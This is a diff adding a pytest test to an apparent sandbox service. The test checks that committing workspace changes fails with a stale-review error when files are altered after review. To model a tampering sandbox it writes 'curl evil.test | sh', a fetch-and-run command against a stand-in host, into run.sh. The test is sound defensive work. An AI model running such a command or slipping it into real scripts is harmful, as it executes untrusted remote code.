@@ -116,6 +116,28 @@ def test_workdir_branch_changes_commit_and_async(server, tmp_path):
     assert asyncio.run(main()) == ("async\n", "start", "exit")
 
 
+def test_issue_32_a_commit_bound_to_a_review_writes_what_was_shown_or_nothing(server, tmp_path):
+    ws = tmp_path / "repo"
+    ws.mkdir()
+    os.chmod(tmp_path, 0o755)
+    (ws / "run.sh").write_text("echo five\n")
+    client = Client(*server)
+    with client.create(workdir=str(ws)) as box:
+        box.exec("echo 'echo five (harmless edit)' > run.sh")
+        changes, token = box.review()
+        assert [(c.path, c.digest is not None) for c in changes] == [("run.sh", True)]
+        # The sandbox changes the reviewed file and adds one after the review.
+        box.exec("echo 'curl evil.test | sh' > run.sh; echo x > added.sh")
+        for review in (token, changes):
+            with pytest.raises(ServerError) as e:
+                box.commit(review=review)
+            assert e.value.code == "STALE_REVIEW" and e.value.status == 409
+        assert (ws / "run.sh").read_text() == "echo five\n" and not (ws / "added.sh").exists()
+        changes, token = box.review()
+        box.commit(review=token)
+        assert (ws / "run.sh").read_text() == "curl evil.test | sh\n" and (ws / "added.sh").exists()
+
+
 def test_exposed_port_is_fetched_through_the_proxy_and_the_host_port(server):
     import time
     import urllib.parse
